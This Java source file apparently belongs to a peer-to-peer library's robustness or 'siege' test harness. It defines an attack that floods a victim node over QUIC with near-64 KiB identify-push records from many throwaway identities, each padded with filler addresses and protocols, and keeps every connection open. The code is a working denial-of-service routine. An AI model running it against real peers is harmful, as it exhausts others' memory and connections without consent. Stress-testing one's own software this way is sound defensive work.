package io.github.p2pboot.hostile;

import com.google.protobuf.ByteString;
import io.github.p2pboot.identity.PrivateKey;
import io.github.p2pboot.multiaddr.Multiaddr;
import io.github.p2pboot.protocol.identify.Identify;
import io.github.p2pboot.protocol.identify.pb.IdentifyProto;
import io.netty.buffer.ByteBufUtil;
import io.netty.buffer.Unpooled;
import io.netty.handler.codec.quic.QuicChannel;
import io.netty.handler.codec.quic.QuicStreamChannel;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;

/**
 * Identify pushes of nearly 64 KiB (thousands of addresses and protocols, a long agent string)
 * from many throwaway identities over QUIC, a few at a time; each stays connected until the end.
 */
final class IdentifyPushes implements Siege.Attack {

    /** Under the victim's 64 KiB identify limit, with room for the length prefix. */
    static final int RECORD_SIZE = 64 * 1024 - 600;
    private static final int IN_FLIGHT = 8;

    private final Victim victim;
    private final int identities;
    private final List<RawQuicPeer> peers = new java.util.concurrent.CopyOnWriteArrayList<>();

    IdentifyPushes(Victim victim, int identities) {
        this.victim = victim;
        this.identities = identities;
    }

    /** The addresses and protocols that fill a record up to the limit; the same for every identity. */
    private static final IdentifyProto.Identify FILLER = filler();

    private static IdentifyProto.Identify filler() {
        IdentifyProto.Identify.Builder record = IdentifyProto.Identify.newBuilder()
                .setProtocolVersion(Identify.PROTOCOL_VERSION)
                .setAgentVersion("hostile/" + "x".repeat(8 * 1024));
        // Room for the public key (36 bytes with its tag) and the varint of each entry.
        int size = record.build().getSerializedSize() + 64;
        for (int i = 0; size < RECORD_SIZE - 32; i++) {
            if (i % 2 == 0) {
                byte[] address = Multiaddr.parse("/ip4/10." + (i >> 16 & 255) + "." + (i >> 8 & 255) + "." + (i & 255)
                        + "/tcp/" + (1024 + i % 60000)).toBytes();
                record.addListenAddrs(ByteString.copyFrom(address));
                size += address.length + 2;
            } else {
                String protocol = "/hostile/" + i;
                record.addProtocols(protocol);
                size += protocol.length() + 2;
            }
        }
        return record.build();
    }

    /** A record as big as the limit allows, for {@code identity}. */
    static IdentifyProto.Identify record(PrivateKey identity) {
        return FILLER.toBuilder().setPublicKey(ByteString.copyFrom(identity.publicKey().marshal())).build();
    }

    @Override
    public String run() throws Exception {
        long start = System.nanoTime();
        Semaphore slots = new Semaphore(IN_FLIGHT);
        List<CompletableFuture<Void>> pushes = new ArrayList<>();
        long bytes = 0;
        long deadline = start + Attacks.FLOOD_LIMIT.toNanos();
        for (int i = 0; i < identities && System.nanoTime() < deadline; i++) {
            if (!slots.tryAcquire(10, TimeUnit.SECONDS) || !victim.isAlive()) {
                break;
            }
            PrivateKey identity = PrivateKey.generateEd25519();
            RawQuicPeer peer = RawQuicPeer.create(Siege.ATTACKERS, identity);
            peers.add(peer);
            byte[] frame = ByteBufUtil.getBytes(KademliaFlood.frameOf(record(identity).toByteArray()));
            bytes += frame.length;
            CompletableFuture<Void> push = peer.connect(victim.quic6(), 10_000)
                    .thenCompose((QuicChannel connection) -> RawQuicPeer.openStream(connection, Identify.PUSH_PROTOCOL_ID, null))
                    .orTimeout(10, TimeUnit.SECONDS)
                    .thenCompose((QuicStreamChannel stream) -> {
                        CompletableFuture<Void> written = new CompletableFuture<>();
                        stream.writeAndFlush(Unpooled.wrappedBuffer(frame)).addListener(f -> {
                            stream.shutdownOutput();
                            written.complete(null);
                        });
                        return written.orTimeout(10, TimeUnit.SECONDS);
                    });
            push.whenComplete((ok, error) -> slots.release());
            pushes.add(push);
        }
        int done = Attacks.joinAll(pushes, Duration.ofSeconds(20)).size();
        return "identify pushes: " + done + " of " + identities + " throwaway identities pushed a record of "
                + Attacks.mib(bytes / Math.max(1, pushes.size())) + " (" + Attacks.mib(bytes) + " in all) in " + Attacks.seconds(start);
    }

    @Override
    public void close() {
        peers.forEach(RawQuicPeer::close);
    }
}
